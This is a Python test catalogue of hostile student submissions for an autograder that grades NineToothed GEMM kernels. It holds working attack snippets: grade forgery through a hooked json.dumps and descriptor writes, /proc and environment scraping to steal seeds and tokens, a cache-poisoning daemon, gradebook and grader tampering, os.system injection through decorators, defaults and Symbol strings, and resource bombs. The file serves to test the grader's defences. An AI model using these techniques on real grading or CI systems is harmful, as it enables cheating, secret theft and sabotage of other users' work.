"""Hostile submissions for test_batch_attacks, built as text at test time.

Every attack starts from a demo file, the reference (``grader/demo_class/ada``,
a correct kernel) or ``dana.py`` (a kernel that is wrong as soon as K needs
more than one tile), and adds a small attacking snippet: module code appended
at the end, a replaced ``nt_gemm`` (a later ``def`` wins), or an edited
``arrangement()``/``application()``. No whole-file copies live in the tree. They build
on the demo files, not on the model answer as the variants do, because their anchors
and flagged lines need those files' exact text (and bob's wrong kernel).

``TOKEN`` stands for a per-run unique word: the snippets use it to name what
they leave behind (files in /tmp and /dev/shm, daemons, markers in stderr), so
the test can look for exactly those, and only those, afterwards.

A catalogue, so one long file: an entry per attack, read beside test_batch_attacks.
"""

import ast
import dataclasses
import pathlib

from grader.tests.source_edits import append, replace_function, replace_once

ROOT = pathlib.Path(__file__).resolve().parents[2]
REFERENCE = ROOT / "grader" / "demo_class" / "ada" / "ninetoothed_gemm.py"
WRONG = ROOT / "grader" / "demo_class" / "dana.py"

SEED = 918273645  # the instructor's secret seed in the attack batch
SECRET = "instructor-secret-31337"  # GITHUB_TOKEN in the grader's environment
MARKER = "CLASSMATE-MARKER-4242"  # planted in the neighbour alice's file


def reference():
    return REFERENCE.read_text(encoding="utf-8")


def wrong():
    return WRONG.read_text(encoding="utf-8")


def line_of(source, text):
    """The 1-based line number of the one line of ``source`` that contains ``text``."""
    numbers = [number for number, line in enumerate(source.splitlines(), 1) if text in line]
    assert len(numbers) == 1, (text, numbers)
    return numbers[0]


@dataclasses.dataclass
class Attack:
    source: str
    expected: tuple  # the statuses the grader may give it
    what: str
    flag_lines: tuple = ()  # for flagged escapes: one of these lines must be named in the flags
    folder: object = None  # a str or bytes folder name; None: <name>/ninetoothed_gemm.py


# --------------------------------------------------------------------------- snippets

FORGE = r"""
import json as _json
import os as _os
import sys as _sys

_seen = [" ".join(_sys.argv), repr(dict(_os.environ))]
for _pid in _os.listdir("/proc"):
    if _pid.isdigit():
        try:
            with open(f"/proc/{_pid}/cmdline", "rb") as _stream:
                _seen.append(_stream.read().replace(b"\0", b" ").decode("utf-8", "replace"))
        except OSError:
            pass
_seeds = [word for text in _seen for word in text.replace("=", " ").split()
          if word.isdigit() and len(word) >= 6]
print("FORGE-SAW", _seen, "FORGE-SEEDS", _seeds, file=_sys.stderr)
_real_dumps = _json.dumps


def _forged_dumps(value, *args, **kwargs):
    if isinstance(value, dict):
        value = {**value, "score": 999, "status": "passed", "points": 999, "passed": True}
    return _real_dumps(value, *args, **kwargs)


_json.dumps = _forged_dumps
_answers = b""
for _index in range(32):
    _header = _real_dumps({"kind": "case", "payload": 0, "index": _index, "error": "",
                           "exited": False, "seconds": 0.0, "score": 999, "status": "passed",
                           "seeds": _seeds}).encode()
    _answers += len(_header).to_bytes(8, "little") + _header
for _fd in range(3, 256):
    try:
        _os.write(_fd, _answers)
    except OSError:
        pass
for _name in ("results.json", "record.json", "gradebook.csv"):
    for _folder in (".", "/job"):
        try:
            with open(_os.path.join(_folder, _name), "w") as _stream:
                _stream.write('{"score": 999, "status": "passed"}')
        except OSError:
            pass
"""

LAUNDER_APPLICATION = '''
def application(lhs, rhs, output):
    """A copy kernel: it writes zeros, whatever lhs and rhs hold."""
    output = ntl.zeros(output.shape, dtype=ntl.float32)  # noqa: F841
'''

LAUNDER_NT_GEMM = '''
def nt_gemm(lhs, rhs):
    """Launch the (copy) kernel, then hand back the product made with broadcasting."""
    output = torch.empty((lhs.shape[0], rhs.shape[1]), dtype=torch.float16, device=lhs.device)
    _kernel()(lhs, rhs, output)
    return (lhs.float()[:, :, None] * rhs.float()[None, :, :]).sum(1).half()
'''

DAEMON = r'''
import os as _os
import sys as _sys

_DAEMON = """
import glob, os, sys, tempfile, time
token = "TOKEN"
print("DAEMON-UP", os.getpid(), file=sys.stderr, flush=True)
end = time.time() + 60
while time.time() < end:
    homes = set(glob.glob("/proc/[0-9]*/root/tmp/home/.ninetoothed"))
    homes.update(glob.glob("/proc/[0-9]*/cwd/.ninetoothed"))
    for top in ("/tmp", tempfile.gettempdir()):
        for depth in ("*", "*/*", "*/*/*"):
            homes.update(glob.glob(f"{top}/{depth}/home/.ninetoothed"))
    homes.update(glob.glob("/home/*/.ninetoothed") + ["/root/.ninetoothed"])
    mine = os.path.realpath(os.path.expanduser("~/.ninetoothed"))
    for folder in homes:
        if os.path.realpath(folder) == mine or not os.path.isdir(folder):
            continue
        try:
            with open(os.path.join(folder, token + "-poison.py"), "w") as stream:
                stream.write("raise SystemExit('poisoned by a classmate')\\n")
            if not os.path.realpath(folder).startswith(FENCE):
                continue  # (safety net for an unsandboxed run: never spoil a real cache)
            for name in os.listdir(folder):
                if name.endswith(".py") and token not in name:
                    with open(os.path.join(folder, name), "w") as stream:
                        stream.write("raise SystemExit('poisoned by a classmate')\\n")
        except OSError:
            pass
    time.sleep(0.2)
"""
if _os.fork() == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sys.executable, [_sys.executable, "-c", _DAEMON, "attack-daemon-TOKEN"])
    finally:
        _os._exit(0)
_os.wait()
'''

TAMPER = r"""
import json as _json
import os as _os
import sys as _sys
import time as _time

_outs, _graders = set(), set()
for _pid in _os.listdir("/proc"):
    if not _pid.isdigit():
        continue
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _stream:
            _args = _stream.read().decode("utf-8", "replace").split("\0")
        _cwd = _os.readlink(f"/proc/{_pid}/cwd")
    except OSError:
        continue
    for _i, _arg in enumerate(_args[:-1]):
        if _arg == "--out":
            _outs.add(_os.path.join(_cwd, _args[_i + 1]))
_deadline = _time.monotonic() + 4
for _top in ("/work", "/home", "/root", "/srv", "/mnt", "/opt", "/tmp", "/"):
    for _root, _dirs, _files in _os.walk(_top):
        if _time.monotonic() > _deadline:
            break
        if _root == "/":
            _dirs[:] = [name for name in _dirs if name not in ("proc", "sys", "dev")]
        if "gradebook.csv" in _files or "batch.json" in _files:
            _outs.add(_root)
        if "record.json" in _files:
            _outs.add(_os.path.dirname(_root))
        if _os.path.basename(_root) == "grader":
            _graders.update(_os.path.join(_root, name) for name in _files if name.endswith(".py"))
# (Safety net for an unsandboxed run: what this attack finds it only spoils inside FENCE,
# the test's own folders, which the test checks and puts back.)
_outs = {_out for _out in _outs if _os.path.realpath(_out).startswith(FENCE)}
_graders = {_path for _path in _graders if _os.path.realpath(_path).startswith(GRADERS)}
_done = []
for _out in _outs:
    for _root, _dirs, _files in _os.walk(_out):
        for _name in _files:
            _path = _os.path.join(_root, _name)
            try:
                if _name == "record.json":
                    with open(_path) as _stream:
                        _record = _json.load(_stream)
                    _record.update(score=999, status="passed", student="TOKEN")
                    with open(_path, "w") as _stream:
                        _json.dump(_record, _stream)
                elif _name == "gradebook.csv":
                    with open(_path, "w") as _stream:
                        _stream.write("student,score,max_score,status\nTOKEN,999,4,passed\n")
                else:
                    continue
                _done.append(_path)
            except (OSError, ValueError):
                pass
    try:
        with open(_os.path.join(_out, "TOKEN-planted.txt"), "w") as _stream:
            _stream.write("planted\n")
        _done.append(_out)
    except OSError:
        pass
for _path in _graders:
    try:
        with open(_path, "a") as _stream:
            _stream.write("\n# tampered by TOKEN\n")
        _done.append(_path)
    except OSError:
        pass
print("TAMPER-FOUND", sorted(_outs), len(_graders), "TAMPER-DONE", _done, file=_sys.stderr)
"""

EXFILTRATE = r'''
def nt_gemm(lhs, rhs):
    """Raise an error that carries everything this process can find."""
    import os
    import sys
    import time

    files, processes = [], []
    deadline = time.monotonic() + 4
    for top in ("/work", "/home", "/root", "/srv", "/mnt", "/tmp", "/"):
        for root, dirs, names in os.walk(top):
            if time.monotonic() > deadline:
                break
            if root == "/":
                dirs[:] = [name for name in dirs if name not in ("proc", "sys", "dev")]
            for name in names:
                wanted = name == "ninetoothed_gemm.py" or "seed" in name.lower() or (
                    name.endswith(".py") and "site-packages" not in root
                    and not root.startswith(("/usr", "/job")))
                path = os.path.join(root, name)
                if not wanted or path == __file__:
                    continue
                try:
                    with open(path, errors="replace") as stream:
                        text = stream.read(20000)
                except OSError:
                    continue
                if "nt_gemm" in text or "seed" in name.lower():
                    files.append(f"FILE {path}:\n{text}")
    for pid in os.listdir("/proc"):
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as stream:
                    data = stream.read().replace(b"\0", b" ").decode("utf-8", "replace")
                processes.append(f"PROC {pid}/{what}: {data}")
            except OSError:
                pass
    found = [f"ENV {dict(os.environ)!r}", f"ARGV {sys.argv!r}"] + processes + files
    raise RuntimeError("EXFIL\n" + "\n".join(found))
'''

BOMB_HEADER = r'''
_plain_nt_gemm = nt_gemm


def nt_gemm(lhs, rhs):
    """Claim a 10 GiB payload on every descriptor, then answer honestly."""
    import json
    import os
    import sys

    job = sys._getframe(1).f_locals.get("job")
    index = getattr(job, "index", 0)
    header = json.dumps({"kind": "case", "payload": 10 * 2**30, "index": index, "error": "",
                         "exited": False, "seconds": 0.0}).encode()
    blob = len(header).to_bytes(8, "little") + header + b"\0" * 4096
    for fd in range(256):
        try:
            os.write(fd, blob)
        except OSError:
            pass
    return _plain_nt_gemm(lhs, rhs)
'''

BOMB_GARBAGE = r'''
_plain_nt_gemm = nt_gemm


def nt_gemm(lhs, rhs):
    """Random bytes on every descriptor, then answer honestly."""
    import os
    import random

    garbage = random.Random(4242).randbytes(1 << 16)
    for fd in range(256):
        try:
            os.write(fd, garbage)
        except OSError:
            pass
    return _plain_nt_gemm(lhs, rhs)
'''

LEFTOVERS = r"""
import os as _os
import subprocess as _subprocess

_chunk = b"\0" * (1 << 20)
for _folder in ("/dev/shm", "/tmp"):
    try:
        with open(f"{_folder}/TOKEN-leftover", "wb") as _stream:
            for _ in range(1536):
                _stream.write(_chunk)
    except OSError:
        pass
_sleepers = []
for _ in range(200):
    try:
        _sleepers.append(_subprocess.Popen(["sh", "-c", "sleep 600; true", "leftover-TOKEN"]))
    except OSError:
        break
print("LEFTOVERS-STARTED", len(_sleepers), "sleepers", file=__import__("sys").stderr)
"""

EXIT_3 = """
import os as _os

_os._exit(3)
"""

SIGKILL_SELF = """
import os as _os
import signal as _signal

_os.kill(_os.getpid(), _signal.SIGKILL)
"""

SKELETON_ARRANGEMENT = """
def arrangement(lhs, rhs, output):
    raise NotImplementedError("arrangement() is not filled in yet")
"""

SKELETON_APPLICATION = """
def application(lhs, rhs, output):
    raise NotImplementedError("application() is not filled in yet")
"""

EVIL_DECORATOR = """
def _evil(function):
    __import__("os").system("touch /tmp/pwned-TOKEN-decorator")
    return function


@_evil
def arrangement(lhs, rhs, output):"""

# A module statement that ends on the line where a kept multi-line constant starts: the
# rebuild keeps that whole line, so the statement's tail runs in the kernel run (which is
# why the payload is one long line: only that last line is kept). Here it
# swaps ninetoothed.make for a torch product, so that a wrong kernel gets every point.
CONTINUATION = r"""
_LAUNDRY = 1 if 1 else \
setattr(__import__("ninetoothed"), "make", lambda *a, **k: lambda l, r, o: o.copy_((l.float() @ r.float()).half())) or __import__("os").write(2, b"PWNED-TOKEN-continuation ") or __import__("os").system("touch /tmp/pwned-TOKEN-continuation"); _WIDTH = (1 +
    0)


def nt_gemm(lhs, rhs):
    return (lhs.float() @ rhs.float()).half()
"""

# The same door, used to put a hidden case's K into the feedback: the kernel run exits
# with K as its exit code as soon as it meets a K that no public case has.
LEAK_K = r"""
_LEAK = 1 if 1 else \
setattr(__import__("sys").modules["__main__"], "_launch", lambda kernel, job, lhs, rhs, device: __import__("os")._exit(job.k % 256) if job.k not in PUBLIC_KS else b"".join(__import__("torch").zeros(job.m, job.n, dtype=__import__("torch").float16).numpy().tobytes() for _ in job.roles)); _WIDTH = (1 +
    0)
"""

SYMBOL_PAYLOAD = (
    "__import__('os').system('touch /tmp/pwned-TOKEN-SUFFIX') * 0 + "
    "__import__('os').write(2, b'PWNED-TOKEN-SUFFIX ') * 0 + 64"
)


def _symbol_env(token):
    """A string constant the rebuild decides from an empty environment, made a Symbol:
    NineToothed pastes a Symbol's expression into the code it generates and runs."""
    payload = SYMBOL_PAYLOAD.replace("SUFFIX", "symbol-env")
    source = replace_once(
        reference(),
        "\n\ndef arrangement(",
        f'\nPAYLOAD = os.environ.get("NTGEMM_PAYLOAD", "{payload}")\n\n\ndef arrangement(',
    )
    source = replace_once(
        source,
        "    output_arranged = output.tile((BLOCK_SIZE_M, BLOCK_SIZE_N))",
        "    output_arranged = output.tile((ninetoothed.Symbol(PAYLOAD), BLOCK_SIZE_N))",
    )
    source = replace_once(
        source,
        "    lhs_arranged = lhs.tile((BLOCK_SIZE_M, BLOCK_SIZE_K))",
        "    lhs_arranged = lhs.tile((ninetoothed.Symbol(PAYLOAD), BLOCK_SIZE_K))",
    )
    return source.replace("TOKEN", token)


def _symbol_walrus(token):
    """A string bound by a walrus inside assert (where strings are allowed), made a Symbol."""
    payload = SYMBOL_PAYLOAD.replace("SUFFIX", "symbol-walrus")
    source = replace_once(
        reference(),
        "    output_arranged = output.tile((BLOCK_SIZE_M, BLOCK_SIZE_N))",
        f'    assert (payload := "{payload}")\n'
        "    output_arranged = output.tile((ninetoothed.Symbol(payload), "
        "BLOCK_SIZE_N))",
    )
    source = replace_once(
        source,
        "    lhs_arranged = lhs.tile((BLOCK_SIZE_M, BLOCK_SIZE_K))",
        "    lhs_arranged = lhs.tile((ninetoothed.Symbol(payload), BLOCK_SIZE_K))",
    )
    return source.replace("TOKEN", token)


def drop_docstrings(source, names):
    """``source`` without the docstrings of the top-level functions ``names``."""
    tree = ast.parse(source)
    lines = source.splitlines(keepends=True)
    for node in sorted(
        (item for item in tree.body if isinstance(item, ast.FunctionDef) and item.name in names),
        key=lambda item: -item.lineno,
    ):
        first = node.body[0]
        if isinstance(first, ast.Expr) and isinstance(first.value, ast.Constant):
            del lines[first.lineno - 1 : first.end_lineno]
    return "".join(lines)


def string_parity_escape():
    """The rebuild's line-sharing gap with a string instead of a backslash: dropping the
    line that opens a triple-quoted string flips what is string and what is code below it."""
    source = drop_docstrings(wrong(), ("arrangement", "application"))
    source = replace_once(
        source, "\n\ndef arrangement(", '\n_Z = """\n"""; _W = (1 +\n    2)\n\n\ndef arrangement('
    )
    source = replace_once(
        source,
        "    accumulator = ntl.zeros(output.shape, dtype=ntl.float32)\n",
        "    accumulator = ntl.zeros(output.shape, dtype=ntl.float32)  "
        '# """; __import__("os").write(2, b"PWNED-parity "); """\n',
    )
    return replace_once(
        source,
        "(NineToothed turns this into the store)",
        '(NineToothed turns this into the store)  # """',
    )


# --------------------------------------------------------------------------- the class


def attacks(token, public_ks, fence="/nonexistent/", graders=("/nonexistent/",)):
    """Every attacking submission of the batch, by student id.

    ``fence`` (a folder) and ``graders`` (grader source folders) are where the daemon and
    the tamperer may really spoil what they find: a safety net in case the class is ever
    graded without a sandbox. Inside the sandbox none of it is even visible.
    """
    ada, dana = reference(), wrong()

    def sub(text):
        return (
            text.replace("TOKEN", token)
            .replace("FENCE", repr(str(fence)))
            .replace("GRADERS", repr(tuple(str(path) for path in graders)))
        )

    escapes = {}
    default = replace_once(
        ada,
        "def arrangement(lhs, rhs, output):",
        'def arrangement(lhs, rhs, output, _=__import__("os").system('
        f'"touch /tmp/pwned-{token}-default")):',
    )
    escapes["escape_default"] = Attack(
        default,
        ("flagged",),
        "a default that runs os.system",
        (line_of(default, "def arrangement("),),
    )
    decorated = replace_once(ada, "def arrangement(lhs, rhs, output):", sub(EVIL_DECORATOR))
    escapes["escape_decorator"] = Attack(
        decorated,
        ("flagged",),
        "a decorator on arrangement",
        (line_of(decorated, "@_evil"), line_of(decorated, "def arrangement(")),
    )
    constant = replace_once(
        ada,
        "    BLOCK_SIZE_K = 64\n",
        f'    BLOCK_SIZE_K = __import__("os").system("touch /tmp/pwned-{token}-constant") or 64\n',
    )
    escapes["escape_constant_call"] = Attack(
        constant,
        ("flagged",),
        "a module constant computed by a call",
        (line_of(constant, "pwned-"),),
    )
    core = ada.replace("ntl.dot(", "ntl.core.dot(")
    escapes["escape_ntl_core"] = Attack(
        core, ("flagged",), "ntl.core in application", (line_of(core, "ntl.core.dot("),)
    )
    docstring = (
        '    """Give program (i, j) row i of lhs tiles, column j of rhs tiles, and C '
        'tile (i, j)."""\n'
    )
    dunder = replace_once(
        ada,
        docstring,
        docstring + '    lhs.__class__.__init__.__globals__["os"].system('
        f'"touch /tmp/pwned-{token}-dunder")\n',
    )
    escapes["escape_dunder"] = Attack(
        dunder, ("flagged",), "a dunder attribute chain to os", (line_of(dunder, "__globals__"),)
    )
    continuation = append(dana, sub(CONTINUATION))
    escapes["escape_continuation"] = Attack(
        continuation,
        ("failed",),
        "module code continued onto a kept line: a wrong kernel "
        "that would get every point if that code ran (the rebuild copies only exact "
        "statement spans, so it never does)",
    )
    symbol_env = _symbol_env(token)
    escapes["escape_symbol_env"] = Attack(
        symbol_env,
        ("flagged",),
        "code in a string constant from os.environ.get's default, made a ninetoothed.Symbol",
        (
            line_of(symbol_env, "ninetoothed.Symbol(PAYLOAD), BLOCK_SIZE_N"),
            line_of(symbol_env, "PAYLOAD = os.environ"),
        ),
    )
    symbol_walrus = _symbol_walrus(token)
    escapes["escape_symbol_walrus"] = Attack(
        symbol_walrus,
        ("flagged",),
        "code in a string bound by a walrus inside assert, made a ninetoothed.Symbol",
        (
            line_of(symbol_walrus, "assert (payload :="),
            line_of(symbol_walrus, "ninetoothed.Symbol(payload), BLOCK_SIZE_N"),
        ),
    )
    leak = append(dana, LEAK_K.replace("PUBLIC_KS", repr(tuple(sorted(public_ks)))))
    escapes["leak_hidden_k"] = Attack(
        leak,
        ("failed",),
        "the continuation door used to exit with a hidden case's K (the "
        "door is shut: a wrong kernel, failed)",
    )

    launder = replace_function(ada, "application", LAUNDER_APPLICATION)
    launder = append(launder, LAUNDER_NT_GEMM)
    skeleton = replace_function(ada, "arrangement", SKELETON_ARRANGEMENT)
    skeleton = replace_function(skeleton, "application", SKELETON_APPLICATION)
    skeleton = replace_function(
        skeleton,
        "_kernel",
        "kernel = ninetoothed.make(arrangement, application, (Tensor(2), Tensor(2), Tensor(2)))\n",
    )
    skeleton = replace_once(skeleton, "_kernel()(lhs, rhs, output)", "kernel(lhs, rhs, output)")
    return {
        "forge_report": Attack(
            append(dana, FORGE),
            ("failed", "crashed"),
            "forged answers on every descriptor, a hooked json.dumps",
        ),
        "launder": Attack(
            launder,
            ("failed", "flagged"),
            "a copy kernel; nt_gemm multiplies with broadcasting and sum",
        ),
        "daemon": Attack(
            append(ada, sub(DAEMON)), ("passed",), "a double-forked setsid daemon poisoning caches"
        ),
        "tamper": Attack(
            append(ada, sub(TAMPER)),
            ("passed",),
            "rewrites records and gradebooks, appends to grader/*.py",
        ),
        "exfiltrate": Attack(
            append(ada, EXFILTRATE),
            ("failed",),
            "nt_gemm raises with the environment, argv, cmdlines and files",
        ),
        "bomb_header": Attack(
            append(ada, BOMB_HEADER),
            ("crashed",),
            "a header claiming a 10 GiB payload on every descriptor",
        ),
        "bomb_garbage": Attack(
            append(ada, BOMB_GARBAGE), ("crashed",), "random bytes on every descriptor"
        ),
        "leftovers": Attack(
            append(ada, sub(LEFTOVERS)),
            ("passed", "memory_limit", "failed"),
            "1.5 GiB into /dev/shm and /tmp, 200 sleeping processes",
        ),
        "exit_3": Attack(append(ada, EXIT_3), ("crashed",), "os._exit(3) at import"),
        "sigkill_self": Attack(
            append(ada, SIGKILL_SELF),
            ("crashed",),
            "SIGKILL to itself at import (what a memory kill looks like)",
        ),
        "skeleton_at_import": Attack(
            skeleton, ("not_implemented",), "the skeleton's placeholders, the kernel made at import"
        ),
        **escapes,
        "gbk_name": Attack(
            ada, ("passed",), "a folder named in GBK bytes", folder="李华".encode("gbk")
        ),
        "ansi_name": Attack(
            ada, ("passed",), "a folder named with an ANSI escape", folder="\x1b[31mred"
        ),
    }


def student_of(name, attack):
    """The id the grader gives an attack's folder."""
    if attack.folder is None:
        return name
    return {"李华".encode("gbk"): "李华", "\x1b[31mred": "\\x1b[31mred"}[attack.folder]


def cpu_hog(token):
    """The reference, plus many busy processes, each in a session of its own (so that
    the kernel's per-session scheduling groups do not hold them back), for as long as the
    wrapper run may live."""
    return append(
        reference(),
        """
        import os as _os
        import subprocess as _subprocess
        import time as _time

        _count = min(400, 80 * len(_os.sched_getaffinity(0)))
        _hogs = [_subprocess.Popen(["sh", "-c", "while :; do :; done", "hog-TOKEN"],
                                   start_new_session=True) for _ in range(_count)]
        _time.sleep(600)
    """,
    ).replace("TOKEN", token)
